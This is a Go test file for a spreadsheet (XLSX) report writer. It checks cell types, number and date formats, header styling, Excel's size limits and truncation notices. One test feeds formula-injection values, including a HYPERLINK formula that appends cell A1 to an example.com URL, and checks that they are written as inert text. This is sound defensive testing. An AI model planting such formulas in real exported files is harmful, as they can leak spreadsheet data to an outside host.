package writer_test

import (
	"bytes"
	"context"
	"errors"
	"math"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/relato/relato/engine/writer"
	"github.com/relato/relato/engine/writer/writertest"
)

func xlsxFields() []writer.Field {
	return []writer.Field{
		{Name: "s", Label: "Fila", Kind: writer.KindString, Decimals: -1},
		{Name: "i", Label: "Total", Kind: writer.KindInt, Decimals: -1},
		{Name: "n", Label: "Valor", Kind: writer.KindNumber, Decimals: -1},
		{Name: "r", Label: "Média", Kind: writer.KindNumber, Decimals: 2},
		{Name: "p", Label: "NS (%)", Kind: writer.KindPercent, Decimals: -1},
		{Name: "d", Label: "TMA", Kind: writer.KindDuration, Decimals: -1},
		{Name: "t", Label: "Entrada", Kind: writer.KindDatetime, Decimals: -1},
		{Name: "day", Label: "Dia", Kind: writer.KindDate, Decimals: -1},
		{Name: "b", Label: "Atendida", Kind: writer.KindBool, Decimals: -1},
	}
}

func xlsxRows() *writertest.Rows {
	null := writertest.Null
	return writertest.New([]string{"s", "i", "n", "r", "p", "d", "t", "day", "b"},
		[]any{"Vendas", "42", "1234.5", "2.675", "77.775", "90061", "2024-01-31 13:45:00", "2024-01-31", "true"},
		[]any{null, null, null, null, null, null, null, null, null},
		[]any{"=1+1", "12345678901234567890", "nan", "0.005", "inf", "3599.5", "2024-02-29 00:00:01.5", "2024-02-29", "0"},
	)
}

// openXLSX writes rows with WriteXLSX and opens the result with excelize.
func openXLSX(t *testing.T, lang string) (*excelize.File, writer.Stats) {
	t.Helper()
	var buf bytes.Buffer
	st, err := writer.WriteXLSX(context.Background(), &buf, xlsxFields(), xlsxRows(), lang, nil)
	if err != nil {
		t.Fatalf("WriteXLSX: %v", err)
	}
	if st.Bytes != int64(buf.Len()) {
		t.Errorf("Stats.Bytes = %d, wrote %d", st.Bytes, buf.Len())
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatalf("excelize cannot open the workbook: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f, st
}

func TestWriteXLSX_WritesTypedCells(t *testing.T) {
	t.Parallel()
	f, st := openXLSX(t, "pt-BR")
	if st.Rows != 3 {
		t.Errorf("Stats.Rows = %d, want 3", st.Rows)
	}
	const sheet = "Relatório"
	if got := f.GetSheetList(); len(got) != 1 || got[0] != sheet {
		t.Fatalf("sheets = %q, want [%s]", got, sheet)
	}
	type cellKind int
	const (
		str cellKind = iota
		num
		boolean
		none
	)
	// How excelize reports each kind: numbers carry no t attribute (OOXML's
	// default, a number), so both numbers and empty cells read as Unset.
	excelType := map[cellKind]excelize.CellType{
		str: excelize.CellTypeInlineString, num: excelize.CellTypeUnset,
		boolean: excelize.CellTypeBool, none: excelize.CellTypeUnset,
	}
	tests := []struct {
		cell     string
		typ      cellKind
		raw      float64 // stored number, when typ is a number
		shown    string  // what Excel displays
		numFmt   string  // custom number format, "" = General
		rawShown string  // raw text for non-numbers
	}{
		{cell: "A2", typ: str, rawShown: "Vendas", shown: "Vendas"},
		{cell: "B2", typ: num, raw: 42, shown: "42", numFmt: "0"},
		{cell: "C2", typ: num, raw: 1234.5, shown: "1234.5"},
		{cell: "D2", typ: num, raw: 2.68, shown: "2.68", numFmt: "0.00"},
		{cell: "E2", typ: num, raw: 0.7778, shown: "77.78%", numFmt: "0.00%"},
		// 90061 s = 1 day 1 h 1 min 1 s
		{cell: "F2", typ: num, raw: 90061.0 / 86400, shown: "25:01:01", numFmt: "[h]:mm:ss"},
		// 2024-01-01 is Excel day 45292, so the 31st is 45322; 13:45 is 13.75/24 of a day.
		{cell: "G2", typ: num, raw: 45322 + 13.75/24, shown: "31/01/2024 13:45:00", numFmt: "dd/mm/yyyy hh:mm:ss"},
		{cell: "H2", typ: num, raw: 45322, shown: "31/01/2024", numFmt: "dd/mm/yyyy"},
		{cell: "I2", typ: boolean, rawShown: "1", shown: "TRUE"},
		// A NULL row leaves every cell empty.
		{cell: "A3", typ: none}, {cell: "B3", typ: none}, {cell: "E3", typ: none}, {cell: "G3", typ: none}, {cell: "I3", typ: none},
		{cell: "A4", typ: str, rawShown: "=1+1", shown: "=1+1"},
		// More digits than a double keeps: text, so none is lost.
		{cell: "B4", typ: str, rawShown: "12345678901234567890", shown: "12345678901234567890"},
		{cell: "C4", typ: none},
		{cell: "D4", typ: num, raw: 0.01, shown: "0.01", numFmt: "0.00"},
		{cell: "E4", typ: none},
		{cell: "F4", typ: num, raw: 3600.0 / 86400, shown: "1:00:00", numFmt: "[h]:mm:ss"},
		// 2024-02-29 is day 45351 (45322 + 29); fractional seconds are dropped.
		{cell: "G4", typ: num, raw: 45351 + 1.0/86400, shown: "29/02/2024 00:00:01", numFmt: "dd/mm/yyyy hh:mm:ss"},
		{cell: "I4", typ: boolean, rawShown: "0", shown: "FALSE"},
	}
	for _, tt := range tests {
		t.Run(tt.cell, func(t *testing.T) {
			typ, err := f.GetCellType(sheet, tt.cell)
			if err != nil {
				t.Fatal(err)
			}
			if typ != excelType[tt.typ] {
				t.Errorf("type = %v, want %v", typ, tt.typ)
			}
			raw, _ := f.GetCellValue(sheet, tt.cell, excelize.Options{RawCellValue: true})
			shown, _ := f.GetCellValue(sheet, tt.cell)
			switch tt.typ {
			case num:
				got, err := strconv.ParseFloat(raw, 64)
				if err != nil || math.Abs(got-tt.raw) > 1e-9 {
					t.Errorf("stored %q, want %v", raw, tt.raw)
				}
			case none:
				if raw != "" {
					t.Errorf("stored %q, want an empty cell", raw)
				}
			default:
				if raw != tt.rawShown {
					t.Errorf("stored %q, want %q", raw, tt.rawShown)
				}
			}
			if tt.typ != none && shown != tt.shown {
				t.Errorf("shown %q, want %q", shown, tt.shown)
			}
			if tt.typ == num {
				id, _ := f.GetCellStyle(sheet, tt.cell)
				style, err := f.GetStyle(id)
				if err != nil {
					t.Fatal(err)
				}
				got := ""
				if style.CustomNumFmt != nil {
					got = *style.CustomNumFmt
				}
				if got != tt.numFmt {
					t.Errorf("number format %q, want %q", got, tt.numFmt)
				}
			}
		})
	}
}

func TestWriteXLSX_HeaderIsBoldAndFrozen(t *testing.T) {
	t.Parallel()
	f, _ := openXLSX(t, "en")
	const sheet = "Report"
	header, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"Fila", "Total", "Valor", "Média", "NS (%)", "TMA", "Entrada", "Dia", "Atendida"}
	if len(header) == 0 || !equalStrings(header[0], want) {
		t.Fatalf("header = %q, want %q", header[0], want)
	}
	for col := 1; col <= len(want); col++ {
		cell, _ := excelize.CoordinatesToCellName(col, 1)
		id, _ := f.GetCellStyle(sheet, cell)
		style, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		if style.Font == nil || !style.Font.Bold {
			t.Errorf("%s is not bold", cell)
		}
	}
	panes, err := f.GetPanes(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want the first row frozen", panes)
	}
	// English keeps ISO dates.
	if got, _ := f.GetCellValue(sheet, "G2"); got != "2024-01-31 13:45:00" {
		t.Errorf("G2 shown %q, want 2024-01-31 13:45:00", got)
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestWriteXLSX_RefusesMoreRowsThanExcelHolds(t *testing.T) {
	t.Parallel()
	// One header row plus 1,048,576 data rows is one row too many.
	const dataRows = 1_048_576
	rows := writertest.Generate([]string{"n"}, dataRows, func(i int64, vals [][]byte) {
		vals[0] = append(vals[0][:0], '1')
	})
	var buf bytes.Buffer
	st, err := writer.WriteXLSX(context.Background(), &buf, []writer.Field{{Name: "n", Kind: writer.KindInt, Decimals: -1}}, rows, "pt-BR", nil)
	if !errors.Is(err, writer.ErrTooManyRows) {
		t.Fatalf("err = %v, want ErrTooManyRows", err)
	}
	if st.Rows != dataRows-1 {
		t.Errorf("wrote %d rows before refusing, want %d", st.Rows, dataRows-1)
	}
	if buf.Len() != 0 {
		t.Errorf("wrote %d bytes of a workbook that cannot be complete", buf.Len())
	}
}

func TestWriteXLSX_FillsTheSheetToTheLastRow(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("writes a full 1,048,576-row sheet")
	}
	// The header plus 1,048,575 data rows fill the sheet exactly.
	const dataRows = 1_048_575
	rows := writertest.Generate([]string{"n"}, dataRows, func(i int64, vals [][]byte) {
		vals[0] = append(vals[0][:0], '1')
	})
	var buf bytes.Buffer
	st, err := writer.WriteXLSX(context.Background(), &buf, []writer.Field{{Name: "n", Kind: writer.KindInt, Decimals: -1}}, rows, "pt-BR", nil)
	if err != nil {
		t.Fatalf("WriteXLSX: %v", err)
	}
	if st.Rows != dataRows || st.Bytes != int64(buf.Len()) || !bytes.HasPrefix(buf.Bytes(), []byte("PK")) {
		t.Errorf("stats = %+v for %d bytes, want %d rows in a zip", st, buf.Len(), dataRows)
	}
}

func TestWriteXLSX_StopsWhenContextIsCanceled(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var buf bytes.Buffer
	_, err := writer.WriteXLSX(ctx, &buf, xlsxFields(), xlsxRows(), "pt-BR", nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if buf.Len() != 0 {
		t.Errorf("wrote %d bytes after cancel", buf.Len())
	}
}

func TestWriteXLSX_KeepsEveryDigitOfNumbersAFloatCannotHold(t *testing.T) {
	t.Parallel()
	fields := []writer.Field{
		{Name: "n", Label: "Valor", Kind: writer.KindNumber, Decimals: -1},
		{Name: "p", Label: "NS (%)", Kind: writer.KindPercent, Decimals: 2},
	}
	rows := writertest.New([]string{"n", "p"},
		// 18 significant digits: a float64 holds 9876543210987654 (issue 13).
		[]any{"9876543210987654.32", "12345678901234567.891"},
		// 17 digits, but exactly the double a float result is: stays a number,
		// written like Excel keeps it, to 15 significant digits (0.3).
		[]any{"0.30000000000000004", "50"},
		// 15 digits: a number.
		[]any{"123456789012345", "99.5"},
	)
	for _, tt := range []struct {
		lang             string
		wantN, wantP     string
		wantSmall        string
		wantSmallPercent string
		wantNote         string
	}{
		// The percent is rounded to 2 places: 12345678901234567.891 → …567.89.
		{"pt-BR", "9876543210987654,32", "12345678901234567,89%", "0.300000000000000", "0.5",
			"2 números com mais de 15 algarismos significativos estão como texto, para manter todos os dígitos."},
		{"en", "9876543210987654.32", "12345678901234567.89%", "0.300000000000000", "0.5",
			"2 numbers with more than 15 significant digits are written as text, to keep every digit."},
	} {
		var buf bytes.Buffer
		st, err := writer.WriteXLSX(context.Background(), &buf, fields, rows, tt.lang, nil)
		if err != nil {
			t.Fatal(err)
		}
		rows = writertest.New([]string{"n", "p"},
			[]any{"9876543210987654.32", "12345678901234567.891"}, []any{"0.30000000000000004", "50"}, []any{"123456789012345", "99.5"})
		if st.TextNumbers != 2 || st.CutCells != 0 {
			t.Errorf("%s: stats %+v, want 2 numbers as text and no cut", tt.lang, st)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		sheet := f.GetSheetName(0)
		for _, c := range []struct {
			cell, want string
			typ        excelize.CellType
		}{
			{"A2", tt.wantN, excelize.CellTypeInlineString},
			{"B2", tt.wantP, excelize.CellTypeInlineString},
			{"A3", tt.wantSmall, excelize.CellTypeUnset},
			{"A4", "123456789012345", excelize.CellTypeUnset},
		} {
			got, _ := f.GetCellValue(sheet, c.cell, excelize.Options{RawCellValue: true})
			typ, _ := f.GetCellType(sheet, c.cell)
			if got != c.want || typ != c.typ {
				t.Errorf("%s: %s = %q (type %v), want %q (type %v)", tt.lang, c.cell, got, typ, c.want, c.typ)
			}
		}
		// Header, 3 rows, an empty row, then the note in row 6.
		if got, _ := f.GetCellValue(sheet, "A6"); got != tt.wantNote {
			t.Errorf("%s: note %q, want %q", tt.lang, got, tt.wantNote)
		}
		if got, _ := f.GetCellValue(sheet, "B3", excelize.Options{RawCellValue: true}); got != tt.wantSmallPercent {
			t.Errorf("%s: B3 = %q, want %q (50 %% as a fraction)", tt.lang, got, tt.wantSmallPercent)
		}
		f.Close()
	}
}

func TestWriteXLSX_CutsTextAtTheCellLimitAndCountsIt(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 40000)
	fields := []writer.Field{{Name: "s", Label: "Texto", Kind: writer.KindString, Decimals: -1}}
	var buf bytes.Buffer
	st, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, []any{long}, []any{"curto"}), "pt-BR", nil)
	if err != nil {
		t.Fatal(err)
	}
	if st.CutCells != 1 {
		t.Errorf("CutCells = %d, want 1 (40,000 characters > 32,767)", st.CutCells)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, _ := f.GetCellValue("Relatório", "A2"); len(got) != 32767 {
		t.Errorf("A2 has %d characters, want 32,767", len(got))
	}
	// Header, 2 rows, an empty row, then the note in row 5.
	if got, _ := f.GetCellValue("Relatório", "A5"); got != "1 texto foi cortado em 32.767 caracteres, o máximo de uma célula do Excel; o download em CSV o traz inteiro." {
		t.Errorf("note A5 = %q", got)
	}
}

func TestWriteXLSX_WritesTextInTheTextFormatNeverAsFormula(t *testing.T) {
	t.Parallel()
	fields := []writer.Field{{Name: "s", Label: "Nome", Kind: writer.KindString, Decimals: -1}}
	in := []string{"=HYPERLINK(\"http://example.com/x?\"&A1,\"Clique\")", "+5511900000002", "011900000007", "@SUM(1+1)"}
	var rs [][]any
	for _, s := range in {
		rs = append(rs, []any{s})
	}
	var buf bytes.Buffer
	if _, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, rs...), "en", nil); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, want := range in {
		cell := "A" + strconv.Itoa(i+2)
		formula, _ := f.GetCellFormula("Report", cell)
		got, _ := f.GetCellValue("Report", cell)
		style, _ := f.GetCellStyle("Report", cell)
		s, _ := f.GetStyle(style)
		if formula != "" || got != want || s == nil || s.NumFmt != 49 {
			t.Errorf("%s: formula %q, value %q, style %+v; want no formula, %q, number format 49 (@)", cell, formula, got, s, want)
		}
	}
}

func TestWriteXLSX_MarksACutResultBelowTheData(t *testing.T) {
	t.Parallel()
	fields := []writer.Field{{Name: "s", Label: "Nome", Kind: writer.KindString, Decimals: -1}}
	for _, tt := range []struct {
		lang, sheet, want string
	}{
		{"pt-BR", "Relatório", "Resultado cortado no limite de 2 linhas do relatório: há mais dados. Reduza o período ou os filtros para obter tudo."},
		{"en", "Report", "Result cut at the report's limit of 2 rows: there is more data. Narrow the period or the filters to get all of it."},
	} {
		var buf bytes.Buffer
		rows := writertest.New([]string{"s"}, []any{"Ana"}, []any{"Bia"}).Cut()
		if _, err := writer.WriteXLSX(context.Background(), &buf, fields, rows, tt.lang, nil); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		// Header in row 1, data in rows 2-3, row 4 empty, the note in row 5.
		got, _ := f.GetRows(tt.sheet)
		if len(got) != 5 || len(got[3]) != 0 || len(got[4]) != 1 || got[4][0] != tt.want {
			t.Errorf("%s: rows %q, want the note %q in row 5", tt.lang, got, tt.want)
		}
		f.Close()
	}
	// Not cut: no note.
	var buf bytes.Buffer
	if _, err := writer.WriteXLSX(context.Background(), &buf, fields, writertest.New([]string{"s"}, []any{"Ana"}), "pt-BR", nil); err != nil {
		t.Fatal(err)
	}
	f, _ := excelize.OpenReader(&buf)
	defer f.Close()
	if got, _ := f.GetRows("Relatório"); len(got) != 2 {
		t.Errorf("an uncut result has rows %q, want header and one row", got)
	}
}

func TestCutNotice_GroupsThousandsByLanguage(t *testing.T) {
	t.Parallel()
	if got := writer.CutNotice(10000, "pt-BR"); !strings.Contains(got, "limite de 10.000 linhas") {
		t.Errorf("pt-BR: %q", got)
	}
	if got := writer.CutNotice(1234567, "en"); !strings.Contains(got, "limit of 1,234,567 rows") {
		t.Errorf("en: %q", got)
	}
}
